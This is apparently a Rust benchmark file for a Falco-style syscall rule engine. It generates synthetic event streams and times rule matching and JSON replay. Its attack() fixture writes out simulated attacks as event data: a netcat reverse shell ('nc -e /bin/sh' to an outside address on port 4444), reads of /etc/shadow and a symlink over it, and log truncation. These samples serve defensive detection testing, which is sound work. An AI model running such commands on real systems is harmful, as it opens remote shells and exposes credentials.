//! Criterion benchmarks of the runtime rule path (the speed targets):
//!
//! - `rules/falco_rules/preparsed_200k` and `.../preparsed_batch_2k`: every rule of `rules/falco_rules.yaml` (all 25
//!   load and all are enabled by default, so "every rule that loads" and "the default
//!   set" are the same 25 rules) over a realistic syscall mix of pre-parsed events
//!   (process tree and containers already attached), Falco's first-match selection,
//!   alerts rendered for the events that match. Target: >= 2 M events/s on one core.
//! - `rules/all_syscall_files/...`: the same with `falco_rules.yaml`,
//!   incubating and sandbox loaded and every rule enabled (93 rules), for scale.
//! - `replay/jsonl_end_to_end`: a generated JSON-lines file (written to a temporary
//!   directory) read, parsed, attributed to processes and containers, evaluated, and
//!   every alert serialised as Falco JSON. Target: >= 300,000 events/s.
//!
//! The `rules` group times the benchmark thread's CPU time (see [`ThreadCpuTime`]), so
//! its throughputs are per core even on a busy machine. The `replay` group is wall time,
//! because replay parses on a second thread; run it on an idle machine.
//!
//! Run: `cargo bench -p kspect-runtime --bench replay -- --warm-up-time 1 --measurement-time 3`
//! (needs `../shared/corpus`; without it the benchmark prints a notice and exits).

/// The allocator the `kspect` binary runs with.
#[global_allocator]
static GLOBAL: tikv_jemallocator::Jemalloc = tikv_jemallocator::Jemalloc;

use std::hint::black_box;
use std::io::Write;
use std::path::{Path, PathBuf};

use std::time::Duration;

use criterion::measurement::{Measurement, ValueFormatter, WallTime};
use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use kspect_rules::{Engine, RuleMatching};
use kspect_runtime::replay::replay_files;
use kspect_runtime::{EventRecord, State, SyscallEvent};
use serde_json::{Value as Json, json};

fn corpus() -> Option<PathBuf> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/falco");
    if p.is_dir() {
        Some(p)
    } else {
        eprintln!("skipping: corpus not found at {}", p.display());
        None
    }
}

/// CPU time of the benchmark thread, from `/proc/thread-self/schedstat` (nanoseconds
/// on the CPU). The targets are per core and the benchmark machine is shared, so wall
/// time would also count the time other processes hold the core. Where the file is
/// unreadable this falls back to wall time.
struct ThreadCpuTime {
    wall: WallTime,
}

fn thread_cpu_ns() -> Option<u64> {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    text.split_whitespace().next()?.parse().ok()
}

impl Measurement for ThreadCpuTime {
    type Intermediate = (Option<u64>, std::time::Instant);
    type Value = Duration;

    fn start(&self) -> Self::Intermediate {
        (thread_cpu_ns(), std::time::Instant::now())
    }
    fn end(&self, (cpu, wall): Self::Intermediate) -> Duration {
        match (cpu, thread_cpu_ns()) {
            (Some(a), Some(b)) if b >= a => Duration::from_nanos(b - a),
            _ => wall.elapsed(),
        }
    }
    fn add(&self, a: &Duration, b: &Duration) -> Duration {
        *a + *b
    }
    fn zero(&self) -> Duration {
        Duration::ZERO
    }
    fn to_f64(&self, v: &Duration) -> f64 {
        v.as_nanos() as f64
    }
    fn formatter(&self) -> &dyn ValueFormatter {
        self.wall.formatter()
    }
}

/// A small deterministic generator (xorshift), so every run sees the same events.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[(self.next() % xs.len() as u64) as usize]
    }
}

struct Workload {
    pid: i64,
    exepath: &'static str,
    args: &'static [&'static str],
    container: Option<(&'static str, &'static str, &'static str)>,
    user: (u32, &'static str),
    reads: &'static [&'static str],
    writes: &'static [&'static str],
}

const WORKLOADS: &[Workload] = &[
    Workload {
        pid: 2101,
        exepath: "/usr/sbin/nginx",
        args: &["-g", "daemon off;"],
        container: Some(("a1b2c3d4e5f6", "web", "docker.io/library/nginx:1.27")),
        user: (101, "nginx"),
        reads: &[
            "/usr/share/nginx/html/index.html",
            "/etc/nginx/nginx.conf",
            "/usr/lib/x86_64-linux-gnu/libssl.so.3",
            "/etc/ssl/certs/ca-certificates.crt",
        ],
        writes: &["/var/log/nginx/access.log", "/var/cache/nginx/proxy_temp/1"],
    },
    Workload {
        pid: 2201,
        exepath: "/usr/lib/postgresql/16/bin/postgres",
        args: &["-D", "/var/lib/postgresql/data"],
        container: Some(("0f9e8d7c6b5a", "db", "docker.io/library/postgres:16")),
        user: (999, "postgres"),
        reads: &[
            "/var/lib/postgresql/data/base/16384/2619",
            "/var/lib/postgresql/data/global/pg_control",
            "/usr/lib/x86_64-linux-gnu/libpq.so.5",
        ],
        writes: &[
            "/var/lib/postgresql/data/pg_wal/000000010000000000000001",
            "/var/lib/postgresql/data/base/16384/2619",
        ],
    },
    Workload {
        pid: 2301,
        exepath: "/usr/local/openjdk-21/bin/java",
        args: &["-Xmx512m", "-jar", "/app/orders.jar"],
        container: Some(("5566778899aa", "orders", "ghcr.io/shop/orders:2.4.1")),
        user: (1000, "app"),
        reads: &[
            "/app/orders.jar",
            "/usr/local/openjdk-21/lib/modules",
            "/etc/hosts",
            "/etc/resolv.conf",
        ],
        writes: &["/tmp/hsperfdata_app/1", "/app/logs/orders.log"],
    },
    Workload {
        pid: 1201,
        exepath: "/usr/bin/kubelet",
        args: &["--config=/var/lib/kubelet/config.yaml"],
        container: None,
        user: (0, "root"),
        reads: &[
            "/var/lib/kubelet/config.yaml",
            "/sys/fs/cgroup/kubepods.slice/cpu.stat",
            "/proc/meminfo",
            "/var/lib/kubelet/pods/1234/volumes",
        ],
        writes: &["/var/lib/kubelet/cpu_manager_state", "/var/log/kubelet.log"],
    },
    Workload {
        pid: 1301,
        exepath: "/usr/lib/systemd/systemd-journald",
        args: &[],
        container: None,
        user: (0, "root"),
        reads: &["/proc/1/cmdline", "/run/log/journal/abc/system.journal"],
        writes: &["/var/log/journal/abc/system.journal"],
    },
];

fn container_json(c: (&str, &str, &str)) -> Json {
    json!({"id": c.0, "name": c.1, "image": c.2, "type": "containerd",
        "labels": {"io.kubernetes.pod.name": format!("{}-0", c.1), "io.kubernetes.pod.namespace": "shop"}})
}

/// `n` events in kspect's JSON-lines schema: long-running workloads doing file, network
/// and process work, short-lived health-check commands, and about one attack in 400
/// events (shell with a terminal in a container, /etc/shadow read, netcat with -e,
/// log truncation, ssh to a non-standard port, a symlink over /etc/shadow).
fn generate(n: usize) -> Vec<String> {
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15);
    let mut out = Vec::with_capacity(n + 16);
    let mut t: i64 = 1_750_000_000_000_000_000;
    fn tick(out: &mut Vec<String>, t: &mut i64, mut ev: Json) {
        *t += 20_000;
        ev["time"] = json!(*t);
        out.push(ev.to_string());
    }
    tick(
        &mut out,
        &mut t,
        json!({"type": "execve", "res": 0, "proc": {"pid": 900, "ppid": 1, "exepath": "/usr/bin/containerd-shim-runc-v2"}}),
    );
    for w in WORKLOADS {
        let mut ev = json!({"type": "execve", "res": 0, "args": {"filename": w.exepath},
            "proc": {"pid": w.pid, "ppid": if w.container.is_some() { 900 } else { 1 }, "exepath": w.exepath,
                     "args": w.args, "cwd": "/", "start": t},
            "user": {"uid": w.user.0, "name": w.user.1, "loginuid": -1}});
        if let Some(c) = w.container {
            ev["container"] = container_json(c);
        }
        tick(&mut out, &mut t, ev);
    }
    let mut next_pid = 30_000i64;
    let mut short_lived: Vec<i64> = Vec::new();
    while out.len() < n {
        let w = rng.pick(WORKLOADS);
        let roll = rng.next() % 1000;
        let ev = if roll < 2 {
            attack(&mut rng, &mut next_pid)
        } else if roll < 260 {
            let f = rng.pick(w.reads);
            json!({"type": "openat", "tid": w.pid, "res": 7, "args": {"fd": 7, "dirfd": "AT_FDCWD", "name": f, "flags": "O_RDONLY|O_CLOEXEC", "mode": "0"},
                   "fd": {"num": 7, "type": "file", "name": f}})
        } else if roll < 340 {
            let f = rng.pick(w.writes);
            json!({"type": "openat", "tid": w.pid, "res": 8, "args": {"fd": 8, "dirfd": "AT_FDCWD", "name": f, "flags": "O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC", "mode": "0644"},
                   "fd": {"num": 8, "type": "file", "name": f}})
        } else if roll < 520 {
            let f = rng.pick(w.writes);
            json!({"type": "write", "tid": w.pid, "res": 512, "args": {"fd": 8, "size": 512},
                   "fd": {"num": 8, "type": "file", "name": f}})
        } else if roll < 640 {
            json!({"type": "read", "tid": w.pid, "res": 1024, "args": {"fd": 12, "size": 4096},
                   "fd": {"num": 12, "type": "ipv4", "l4proto": "tcp", "cip": "10.244.1.7", "cport": 51234, "sip": "10.244.2.3", "sport": 8080, "is_server": true}})
        } else if roll < 700 {
            json!({"type": "close", "tid": w.pid, "res": 0, "args": {"fd": 7}, "fd": {"num": 7, "type": "file", "name": rng.pick(w.reads)}})
        } else if roll < 760 {
            let (sip, sport) = *rng.pick(&[
                ("10.96.0.1", 443u16),
                ("10.96.0.10", 53),
                ("10.244.3.9", 5432),
                ("140.82.112.3", 443),
            ]);
            json!({"type": "connect", "tid": w.pid, "res": 0, "args": {"fd": 13, "addr": format!("{sip}:{sport}")},
                   "fd": {"num": 13, "type": "ipv4", "l4proto": "tcp", "cip": "10.244.2.3", "cport": 40000 + (rng.next() % 20000) as u16, "sip": sip, "sport": sport, "connected": true}})
        } else if roll < 820 {
            json!({"type": "accept4", "tid": w.pid, "res": 14, "args": {"fd": 14, "tuple": "10.244.1.7:51234->10.244.2.3:8080"},
                   "fd": {"num": 14, "type": "ipv4", "l4proto": "tcp", "cip": "10.244.1.7", "cport": 51234, "sip": "10.244.2.3", "sport": 8080, "is_server": true}})
        } else if roll < 860 {
            json!({"type": "sendto", "tid": w.pid, "res": 40, "args": {"fd": 15, "size": 40, "tuple": "10.244.2.3:33000->10.96.0.10:53"},
                   "fd": {"num": 15, "type": "ipv4", "l4proto": "udp", "cip": "10.244.2.3", "cport": 33000, "sip": "10.96.0.10", "sport": 53, "connected": true}})
        } else if roll < 900 {
            // A health-check command: fork, exec, exit.
            next_pid += 1;
            short_lived.push(next_pid);
            let cmd = *rng.pick(&[
                (
                    "/usr/bin/curl",
                    &["-sf", "http://localhost:8080/healthz"][..],
                ),
                ("/usr/lib/postgresql/16/bin/pg_isready", &["-q"][..]),
                ("/bin/ps", &["-ef"][..]),
            ]);
            let mut ev = json!({"type": "execve", "res": 0, "args": {"filename": cmd.0},
                "proc": {"pid": next_pid, "ppid": w.pid, "exepath": cmd.0, "args": cmd.1, "cwd": "/", "start": t},
                "user": {"uid": w.user.0, "name": w.user.1, "loginuid": -1}});
            if let Some(c) = w.container {
                ev["container"] = json!({"id": c.0});
            }
            ev
        } else if roll < 930 {
            json!({"type": "clone", "tid": w.pid, "res": next_pid + 100_000, "args": {"flags": "CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_THREAD"}})
        } else if roll < 960 {
            match short_lived.pop() {
                Some(pid) => {
                    json!({"type": "procexit", "tid": pid, "res": 0, "args": {"status": 0}})
                }
                None => json!({"type": "futex", "tid": w.pid, "res": 0}),
            }
        } else {
            let f = rng.pick(w.writes);
            let ty = *rng.pick(&[
                "unlinkat",
                "renameat2",
                "mkdirat",
                "fchmodat",
                "setuid",
                "socket",
                "bind",
                "listen",
                "dup2",
            ]);
            json!({"type": ty, "tid": w.pid, "res": 0, "args": {"name": f, "path": f, "uid": w.user.0, "domain": "AF_INET"}})
        };
        tick(&mut out, &mut t, ev);
    }
    out.truncate(n);
    out
}

fn attack(rng: &mut Rng, next_pid: &mut i64) -> Json {
    *next_pid += 1;
    let pid = *next_pid;
    match rng.next() % 6 {
        0 => json!({"type": "execve", "res": 0, "args": {"filename": "/bin/bash"},
            "proc": {"pid": pid, "ppid": 900, "exepath": "/bin/bash", "args": ["-i"], "tty": 34816, "cwd": "/"},
            "user": {"uid": 0, "name": "root", "loginuid": -1}, "container": {"id": "a1b2c3d4e5f6"}}),
        1 => {
            json!({"type": "openat", "tid": 2101, "res": 9, "args": {"fd": 9, "dirfd": "AT_FDCWD", "name": "/etc/shadow", "flags": "O_RDONLY", "mode": "0"},
            "fd": {"num": 9, "type": "file", "name": "/etc/shadow"}})
        }
        2 => json!({"type": "execve", "res": 0, "args": {"filename": "/usr/bin/nc"},
            "proc": {"pid": pid, "ppid": 2301, "exepath": "/usr/bin/nc", "args": ["-e", "/bin/sh", "203.0.113.5", "4444"], "cwd": "/"},
            "user": {"uid": 1000, "name": "app", "loginuid": -1}, "container": {"id": "5566778899aa"}}),
        3 => {
            json!({"type": "openat", "tid": 1301, "res": 9, "args": {"fd": 9, "dirfd": "AT_FDCWD", "name": "/var/log/syslog", "flags": "O_WRONLY|O_TRUNC", "mode": "0"},
            "fd": {"num": 9, "type": "file", "name": "/var/log/syslog"}})
        }
        4 => {
            json!({"type": "connect", "tid": 1201, "res": 0, "proc": {"pid": 1201, "exe": "/usr/bin/ssh"},
            "fd": {"num": 9, "type": "ipv4", "l4proto": "tcp", "cip": "192.0.2.10", "cport": 50000, "sip": "203.0.113.7", "sport": 4444, "connected": true}})
        }
        _ => {
            json!({"type": "symlinkat", "tid": 2201, "res": 0, "args": {"target": "/etc/shadow", "linkdirfd": "AT_FDCWD", "linkpath": "/tmp/s"}})
        }
    }
}

fn engine(root: &Path, files: &[&str], enable_all: bool) -> Engine {
    let mut e = Engine::new();
    for f in files {
        let res = e.load_file(&root.join(f));
        assert!(res.successful(), "{f}: {:?}", res.errors);
    }
    if enable_all {
        e.set_enabled_where(true, |r| r.source == "syscall");
    }
    e
}

fn preparse(lines: &[String]) -> Vec<SyscallEvent> {
    let mut state = State::new();
    lines
        .iter()
        .map(|l| {
            let rec: EventRecord = serde_json::from_str(l).expect("generated event");
            state.ingest(rec)
        })
        .collect()
}

fn bench_rules<M: Measurement>(c: &mut Criterion<M>) {
    let Some(root) = corpus() else { return };
    let lines = generate(200_000);
    let events = preparse(&lines);

    let mut g = c.benchmark_group("rules");
    g.sample_size(10);
    let sets: [(&str, &[&str], bool); 2] = [
        ("falco_rules", &["rules/falco_rules.yaml"], false),
        (
            "all_syscall_files",
            &[
                "rules/falco_rules.yaml",
                "rules/falco-incubating_rules.yaml",
                "rules/falco-sandbox_rules.yaml",
            ],
            true,
        ),
    ];
    // Two views of "pre-parsed": the whole 200,000-event array (every event's records
    // come from memory, as when events are buffered), and a 2,048-event batch that
    // stays in cache (as in a pipeline that evaluates each event right after parsing
    // it).
    let batch = &events[..2048];
    for (name, files, all) in sets {
        let e = engine(&root, files, all);
        let rs = e.ruleset("syscall").expect("syscall ruleset");
        let alerts: usize = events
            .iter()
            .map(|ev| rs.matches(ev, RuleMatching::First).len())
            .sum();
        eprintln!(
            "{name}: {} rules, {} events, {alerts} alerts",
            rs.rules().len(),
            events.len()
        );
        for (view, evs) in [
            ("preparsed_200k", &events[..]),
            ("preparsed_batch_2k", batch),
        ] {
            g.throughput(Throughput::Elements(evs.len() as u64));
            g.bench_function(format!("{name}/{view}"), |b| {
                b.iter(|| {
                    let mut n = 0usize;
                    for ev in evs {
                        for r in rs.matches(ev, RuleMatching::First) {
                            n += black_box(r.alert(ev, "bench")).message.len();
                        }
                    }
                    n
                })
            });
        }
    }
    g.finish();
}

/// End-to-end replay, in wall time: reading and parsing run on a thread of their own
/// (see `replay_files`), so one thread's CPU time would leave them out.
fn bench_replay(c: &mut Criterion) {
    let Some(root) = corpus() else { return };
    let lines = generate(200_000);
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("events.jsonl");
    {
        let mut f = std::io::BufWriter::new(std::fs::File::create(&path).expect("create"));
        for l in &lines {
            writeln!(f, "{l}").expect("write");
        }
    }
    let e = engine(&root, &["rules/falco_rules.yaml"], false);
    let rs = e.ruleset("syscall").expect("syscall ruleset");
    let mut g = c.benchmark_group("replay");
    g.throughput(Throughput::Elements(lines.len() as u64));
    g.sample_size(10);
    g.bench_function("jsonl_end_to_end", |b| {
        b.iter(|| {
            let mut state = State::new();
            let mut sink = std::io::sink();
            let mut n = 0u64;
            replay_files(
                std::slice::from_ref(&path),
                &mut state,
                |ev| {
                    n += 1;
                    for r in rs.matches(ev, RuleMatching::First) {
                        let a = r.alert(ev, "bench");
                        let _ = writeln!(sink, "{}", a.to_json());
                    }
                },
                |e| panic!("{e}"),
            );
            assert_eq!(n as usize, lines.len());
        })
    });
    // The two stages apart: reading and parsing (the second thread's work), and
    // attribution plus rules on records already parsed (the caller's thread).
    g.bench_function("read_and_parse_only", |b| {
        b.iter(|| {
            let reader = kspect_runtime::replay::RecordReader::open(&path).expect("open");
            assert_eq!(reader.count(), lines.len());
        })
    });
    let records: Vec<EventRecord> = lines
        .iter()
        .map(|l| serde_json::from_str(l).expect("generated event"))
        .collect();
    g.bench_function("ingest_and_rules_only", |b| {
        b.iter_batched(
            || records.clone(),
            |records| {
                let mut state = State::new();
                let mut sink = std::io::sink();
                for rec in records {
                    let ev = state.ingest(rec);
                    for r in rs.matches(&ev, RuleMatching::First) {
                        let _ = writeln!(sink, "{}", r.alert(&ev, "bench").to_json());
                    }
                }
            },
            criterion::BatchSize::PerIteration,
        )
    });
    g.finish();
}

fn cpu_time() -> Criterion<ThreadCpuTime> {
    Criterion::default().with_measurement(ThreadCpuTime { wall: WallTime })
}

criterion_group! {
    name = rules;
    config = cpu_time();
    targets = bench_rules
}
criterion_group!(replay, bench_replay);
criterion_main!(rules, replay);
